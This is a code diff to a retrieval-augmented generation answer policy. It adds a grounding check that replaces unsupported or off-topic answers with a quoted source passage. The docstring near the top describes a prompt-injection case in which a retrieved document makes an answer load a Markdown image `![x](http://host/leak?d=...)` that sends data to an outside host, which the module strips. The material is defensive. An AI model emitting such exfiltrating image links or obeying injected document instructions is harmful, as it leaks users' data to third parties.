@@ -10,17 +10,22 @@
    unless its target appears in the user's own sources (issue 26, point 7): a document carrying
    instructions cannot make the answer load `![x](http://host/leak?d=...)` in a client that
    renders Markdown.
-3. Quote: an answer with nothing left (the model echoed its prompt, or said nothing) is replaced
-   by the passage of the sources that best matches the question, quoted with its citation and
-   marked `quote`, so the reply is never empty when something relevant was found.
+3. Grounded or quoted: the grounding check (rag/grounding.py) judges each sentence against the
+   sources. The answer is replaced by the passage of the sources that best matches the question,
+   quoted with its citation and marked `quote`, when nothing is left (the model echoed its prompt
+   or said nothing), when no sentence of it is supported by the sources, or when it shares no
+   content word with the question (a verbatim passage about something else is "supported" but
+   does not answer). So the reply is never empty or off the question when something relevant was
+   found, and an answer the sources do not back is not presented as fact.
 """
 from __future__ import annotations
 
 import re
 from collections.abc import Sequence
 from dataclasses import dataclass
+from typing import Any
 
-from rag.grounding import content_words, sentences_of
+from rag.grounding import GroundingChecker, content_words, sentences_of
 from rag.retriever import Source
 
 GENERATED, QUOTE, NO_CONTEXT = "generated", "quote", "no_context"
@@ -41,6 +46,7 @@ _HTML_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?>")
 class FinalAnswer:
     text: str
     kind: str  # generated, quote or no_context
+    grounding: dict[str, Any] | None = None  # a generated answer's check against its sources
 
 
 def clean(text: str) -> str:
@@ -168,12 +174,26 @@ def _construct_end(text: str, start: int) -> int | None:
     return None if close < 0 else start + close + 1
 
 
+def addresses(question: str, answer: str) -> bool:
+    """Whether the answer shares a content word with the question (any, for a question without one)."""
+    wanted = content_words(question)
+    return not wanted or bool(wanted & content_words(answer))
+
+
 class AnswerPolicy:
     """The model's text as it is shown and stored (see the module's docstring)."""
 
-    def final(self, question: str, text: str, sources: Sequence[Source]) -> FinalAnswer:
+    def __init__(self, grounding: GroundingChecker) -> None:
+        self._grounding = grounding
+
+    def final(self, question: str, text: str, sources: Sequence[Source], asked_as: str | None = None) -> FinalAnswer:
+        """`asked_as`: a follow-up's standalone form (with its subject), used to choose the quote."""
         sources_text = "\n".join(source.text for source in sources)
         answer = neutralise(clean(text), sources_text).strip()
-        if answer or not sources:
+        if not sources:
             return FinalAnswer(answer, GENERATED)
-        return FinalAnswer(quoted(question, sources), QUOTE)
+        if answer and addresses(question, answer):
+            grounding = self._grounding.check(answer, sources).as_dict()
+            if grounding["supported_share"] != 0:  # some sentence is backed, or none carries a claim
+                return FinalAnswer(answer, GENERATED, grounding)
+        return FinalAnswer(quoted(asked_as or question, sources), QUOTE)
